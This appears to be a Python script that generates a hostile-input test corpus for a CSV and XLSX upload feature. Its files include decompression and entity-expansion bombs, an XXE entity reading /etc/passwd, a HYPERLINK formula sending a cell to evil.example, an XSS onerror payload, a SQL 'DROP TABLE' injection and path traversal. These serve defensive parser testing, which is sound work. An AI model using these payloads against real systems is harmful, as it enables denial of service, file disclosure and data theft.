"""Write the hostile-input corpus next to this script: one small file per case, plus the recipes of
the large ones (bombs, oversized fields and files), which tests/test_hostile_corpus.py builds in a
temporary directory instead of committing megabytes.

Run once (`.venv/bin/python tests/data/hostile/make_corpus.py`); the files are committed and the
test reads them as they are (and checks that this script still writes the same bytes). Every file
names the demo's enterprise user's own firm (the first demo firm of 青岛软件城) for 2017Q1, a quarter
after its last demo figures, so a valid file lands as a new quarter: values are about 10 % above the
firm's 2016Q1 figures (software revenue 60029.5, main revenue 76402.7, products 14470, IT services
23246, 2613 employees), well inside every year-on-year and plausibility rule. Each hostile file then
changes one thing; what must happen to each is tabled in tests/test_hostile_corpus.py.
"""

from __future__ import annotations

import csv
import io
import sys
import zipfile
from pathlib import Path

HERE = Path(__file__).resolve().parent
sys.path.insert(0, str(HERE.parents[2]))  # the project root

HEADER = ["org", "period", "indicator", "value", "unit"]
FIRM = "ent-91370200282ay2et0d"  # the demo enterprise user's scope (store/users.create_demo_users)
FIRM_ZH = "青岛天衡恒信网络科技有限公司"
FIRM_CODE = "91370200282AY2ET0D"
OTHER_FIRM = "ent-913702002hte1qt97m"  # the next firm of 青岛软件城: registered, not the user's
PERIOD = "2017Q1"
ROWS = [  # a valid quarter: indicator, value, unit
    ("software_revenue", "66000", "万元"),
    ("main_revenue", "84000", "万元"),
    ("software_products", "15900", "万元"),
    ("it_services", "25500", "万元"),
    ("employees", "2700", "人"),
]

def rows_text(rows: list[list[str]], terminator: str = "\r\n", delimiter: str = ",") -> str:
    buf = io.StringIO()
    csv.writer(buf, lineterminator=terminator, delimiter=delimiter).writerows(rows)
    return buf.getvalue()


def tidy_rows(change: dict[str, tuple[str, str]] | None = None, *, org: str = FIRM, period: str = PERIOD) -> list[list[str]]:
    """The valid quarter with some indicators' (value, unit) replaced."""
    change = change or {}
    return [[org, period, ind, *change.get(ind, (value, unit))] for ind, value, unit in ROWS]


def tidy(change: dict[str, tuple[str, str]] | None = None, *, org: str = FIRM, period: str = PERIOD,
         terminator: str = "\r\n", encoding: str = "utf-8") -> bytes:
    return rows_text([HEADER, *tidy_rows(change, org=org, period=period)], terminator).encode(encoding)


def one_cell(column: str, text: str) -> bytes:
    """The valid file with one cell of its first row (software revenue) replaced by `text`."""
    rows = tidy_rows()
    rows[0][HEADER.index(column)] = text
    return rows_text([HEADER, *rows]).encode("utf-8")


def xlsx(rows: list[list[object]]) -> bytes:
    import openpyxl

    wb = openpyxl.Workbook()
    ws = wb.active
    for row in rows:
        ws.append(row)
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def sheet_zip(sheet_rows, *, shared: bytes | None = None, extra: dict[str, bytes] | None = None) -> bytes:
    """A minimal workbook written by hand, streaming `sheet_rows` (an iterable of XML row strings):
    how a bomb is made without ever holding it — a few MB of XML compress to a few KB."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as z:
        z.writestr("[Content_Types].xml",
                   '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
                   '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
                   '<Default Extension="xml" ContentType="application/xml"/>'
                   '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
                   '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
                   + ('<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/>' if shared else "")
                   + '</Types>')
        z.writestr("_rels/.rels",
                   '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                   '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>')
        z.writestr("xl/workbook.xml",
                   '<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
                   'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets>'
                   '<sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>')
        z.writestr("xl/_rels/workbook.xml.rels",
                   '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                   '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/>'
                   + ('<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings" Target="sharedStrings.xml"/>' if shared else "")
                   + '</Relationships>')
        if shared:
            z.writestr("xl/sharedStrings.xml", shared)
        for name, data in (extra or {}).items():
            z.writestr(name, data)
        with z.open("xl/worksheets/sheet1.xml", "w") as f:
            f.write(b'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/'
                    b'spreadsheetml/2006/main"><sheetData>')
            for row in sheet_rows:
                f.write(row.encode())
            f.write(b"</sheetData></worksheet>")
    return buf.getvalue()


def _inline_row(n: int, cells: list[str]) -> str:
    return f'<row r="{n}">' + "".join(f'<c t="inlineStr"><is><t>{c}</t></is></c>' for c in cells) + "</row>"


def xlsx_bomb(rows: int = 5_000_000) -> bytes:
    """The issue's 0.9 MB workbook that unpacks to five million rows of the same valid-looking line."""
    def lines():
        yield _inline_row(1, HEADER)
        line = [FIRM, PERIOD, "software_revenue", "66000", "万元"]
        for n in range(2, rows + 2):
            yield _inline_row(n, line)
    return sheet_zip(lines())


def xlsx_wide(columns: int = 20_000) -> bytes:
    return sheet_zip([_inline_row(1, [*HEADER, *(f"c{i}" for i in range(columns))]),
                      _inline_row(2, [FIRM, PERIOD, "software_revenue", "66000", "万元"])])


def xlsx_shared_strings_bomb(strings: int = 3_000_000) -> bytes:
    """Millions of shared strings and a one-row sheet: the size is in another part of the zip."""
    body = b"".join(b"<si><t>x</t></si>" for _ in range(strings))
    shared = (b'<?xml version="1.0" encoding="UTF-8"?><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/'
              b'2006/main" count="%d" uniqueCount="%d">' % (strings, strings)) + body + b"</sst>"
    return sheet_zip([_inline_row(1, HEADER), _inline_row(2, [FIRM, PERIOD, "software_revenue", "66000", "万元"])],
                     shared=shared)


BILLION_LAUGHS = (b'<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
                  + b"".join(b'<!ENTITY lol%d "%s">' % (i, (b"&lol%d;" % (i - 1) if i > 1 else b"&lol;") * 10)
                             for i in range(1, 10))
                  + b']><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" '
                    b'uniqueCount="1"><si><t>&lol9;</t></si></sst>')

XXE = (b'<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE sst [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
       b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" uniqueCount="1">'
       b"<si><t>&xxe;</t></si></sst>")


def _shared_row() -> str:
    return '<row r="2"><c t="s"><v>0</v></c></row>'


def huge_field(size: int = 128 * 1024) -> bytes:
    rows = tidy_rows()
    rows[0][HEADER.index("org")] = "x" * size
    return rows_text([HEADER, *rows]).encode("utf-8")


def long_line(size: int = 10 * 1024 * 1024) -> bytes:
    """Ten megabytes without a line break after the header."""
    return rows_text([HEADER]).encode() + b"a," * (size // 2)


def many_rows(rows: int = 2_000_000) -> bytes:
    line = f"{FIRM},{PERIOD},employees,2700,人\r\n".encode()
    return rows_text([HEADER]).encode() + line * rows


def over_size(limit: int = 50 * 1024 * 1024) -> bytes:
    return rows_text([HEADER]).encode() + b" " * limit


def bad_rows_50mb(size: int = 50 * 1024 * 1024 - 1024) -> bytes:
    """The issue's 50 MB CSV of bad rows, just under the byte limit: every row an unknown firm."""
    line = b"no-such-firm,2017Q1,software_revenue,abc,xx\r\n"
    return rows_text([HEADER]).encode() + line * (size // len(line))


def files() -> dict[str, bytes]:
    """Every committed file of the corpus, by name."""
    crlf = tidy()
    lf = tidy(terminator="\n")
    out = {
        # --- encodings and line endings of a valid quarter
        "valid_utf8_crlf.csv": crlf,
        "valid_utf8_lf.csv": lf,
        "valid_cr_only.csv": tidy(terminator="\r"),  # old-Mac line endings
        "valid_mixed_line_endings.csv": lf.replace(b"\n", b"\r\n", 2).replace(b"\r\n" + FIRM.encode(), b"\r" + FIRM.encode(), 1),
        "valid_utf8_bom.csv": b"\xef\xbb\xbf" + crlf,
        "valid_gb18030_name.csv": tidy(org=FIRM_ZH, encoding="gb18030"),
        "valid_credit_code.csv": tidy(org=FIRM_CODE),
        "valid_trailing_blank_lines.csv": crlf + b"\r\n\r\n,,,,\r\n",
        "valid_padded_cells.csv": rows_text([HEADER, *[[f"  {c}  " for c in r] for r in tidy_rows()]]).encode(),
        "valid_yuan_and_yi.csv": tidy({"software_revenue": ("6.6", "亿元"), "main_revenue": ("840000000", "元")}),
        "valid_thousands_separators.csv": tidy({"software_revenue": ("66,000", "万元")}),
        "valid_fullwidth_digits.csv": tidy({"software_revenue": ("６６０００", "万元")}),
        "valid_chinese_period.csv": tidy(period="2017年1-3月"),
        "valid_indicator_codes.csv": rows_text([HEADER, *[[FIRM, PERIOD, code, v, u] for code, (_, v, u) in
                                                          zip(("2020", "2010", "2021", "2022", "2112"), ROWS, strict=True)]]).encode(),
        "valid.xlsx": xlsx([HEADER, *tidy_rows()]),
        "utf16_bom.csv": b"\xff\xfe" + rows_text([HEADER, *tidy_rows()], "\r\n", "\t").encode("utf-16-le"),
        "invalid_bytes.csv": rows_text([HEADER]).encode() + b"\xff\xfe\xfd\x80\x81,2017Q1,employees,1,\xc3\r\n",
        "nul_bytes.csv": crlf.replace(b"66000", b"66\x0000"),
        "semicolons.csv": rows_text([HEADER, *tidy_rows()], delimiter=";").encode(),
        "tabs_named_csv.csv": rows_text([HEADER, *tidy_rows()], delimiter="\t").encode(),
        "empty.csv": b"",
        "bom_only.csv": b"\xef\xbb\xbf",
        "header_only.csv": rows_text([HEADER]).encode(),
        "unbalanced_quote.csv": crlf.replace(b"66000", b'"66000'),
        "pdf_named_csv.csv": b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj<<>>endobj\n",
        "csv_named_xlsx.xlsx": crlf,
        "zip_named_xlsx.xlsx": sheet_zip([])[:200],  # a truncated zip
        "xlsx_billion_laughs.xlsx": sheet_zip([_inline_row(1, HEADER), _shared_row()], shared=BILLION_LAUGHS),
        "xlsx_xxe.xlsx": sheet_zip([_inline_row(1, HEADER), _shared_row()], shared=XXE),
        "xlsx_formula_cell.xlsx": xlsx([HEADER, [FIRM, PERIOD, "software_revenue", "=B2*2", "万元"]]),
        # --- formulas and markup in cells
        "formula_in_org.csv": one_cell("org", '=HYPERLINK("http://evil.example/?"&A1,"click")'),
        "formula_in_value.csv": one_cell("value", "=1+1"),
        "at_formula_in_value.csv": one_cell("value", "@SUM(1,2)"),
        "markdown_link_in_org.csv": one_cell("org", "[点此](http://evil.example)"),
        "markdown_image_in_org.csv": one_cell("org", "![x](http://evil.example/i.png)"),
        "colour_in_indicator.csv": one_cell("indicator", ":red[软件业务收入]"),
        "latex_in_unit.csv": one_cell("unit", "$x^2$"),
        "html_in_org.csv": one_cell("org", "<img src=x onerror=alert(1)>"),
        # --- numbers
        "inf_value.csv": one_cell("value", "inf"),
        "nan_value.csv": one_cell("value", "nan"),
        "minus_inf_value.csv": one_cell("value", "-Infinity"),
        "overflow_after_unit.csv": tidy({"employees": ("1e305", "万人")}),
        "overflow_digits.csv": one_cell("value", "9" * 400),
        "hex_value.csv": one_cell("value", "0x1F"),
        "underscore_digits.csv": one_cell("value", "66_000"),
        "european_decimal.csv": one_cell("value", "66.000,5"),
        "negative_revenue.csv": tidy({"software_revenue": ("-66000", "万元")}),
        "fifteen_trillion_revenue.csv": tidy({"main_revenue": ("1500000000", "万元")}),
        # 2008: before the firm's first demo figure, so no earlier period to compare with
        "fifteen_trillion_no_history.csv": tidy({"main_revenue": ("1500000000", "万元")}, period="2008Q1"),
        "main_1000x_software.csv": tidy({"main_revenue": ("66000000", "万元")}),
        "revenue_per_head_absurd.csv": tidy({"employees": ("1", "人")}),
        "part_exceeds_total.csv": tidy({"software_products": ("70000", "万元")}),
        "fractional_employees.csv": tidy({"employees": ("2700.5", "人")}),
        # --- periods
        "period_0000Q4.csv": tidy(period="0000Q4"),
        "period_1900Q1.csv": tidy(period="1900Q1"),
        "period_9999Q4.csv": tidy(period="9999Q4"),
        "period_quarter_5.csv": tidy(period="2017Q5"),
        "period_year_0_months.csv": tidy(period="0年1-12月"),
        "period_current_quarter.csv": tidy(period="2026Q4"),  # not over on 2026-11-29
        "period_iso_month.csv": tidy(period="2017-03"),
        # --- units
        "revenue_in_dollars.csv": tidy({"software_revenue": ("66000", "万美元")}),
        "unknown_unit.csv": one_cell("unit", "斤"),
        "people_in_yuan.csv": tidy({"employees": ("2700", "万元")}),
        # --- ids and scope
        "other_firm.csv": tidy(org=OTHER_FIRM),
        "unknown_firm.csv": tidy(org="ent-no-such-firm"),
        "wrong_check_character.csv": tidy(org=FIRM_CODE[:-1] + ("0" if FIRM_CODE[-1] != "0" else "1")),
        "unknown_indicator.csv": one_cell("indicator", "9999"),
        "duplicate_rows.csv": crlf + rows_text([tidy_rows()[0]]).encode(),
        "sql_in_org.csv": one_cell("org", "x'); DROP TABLE observations; --"),
        "path_in_org.csv": one_cell("org", "../../../../etc/passwd"),
        "rtl_override_in_org.csv": one_cell("org", "\u202eent-91370200282ay2et0d"),
    }
    return out


LARGE = {  # built by the test in tmp_path: name -> recipe
    "bomb_5m_rows.xlsx": xlsx_bomb,
    "wide_20k_columns.xlsx": xlsx_wide,
    "shared_strings_bomb.xlsx": xlsx_shared_strings_bomb,
    "field_128kb.csv": huge_field,
    "line_10mb.csv": long_line,
    "rows_2m.csv": many_rows,
    "over_50mb.csv": over_size,
    "bad_rows_50mb.csv": bad_rows_50mb,
}


if __name__ == "__main__":
    for name, data in files().items():
        (HERE / name).write_bytes(data)
    print(f"wrote {len(files())} files to {HERE}")
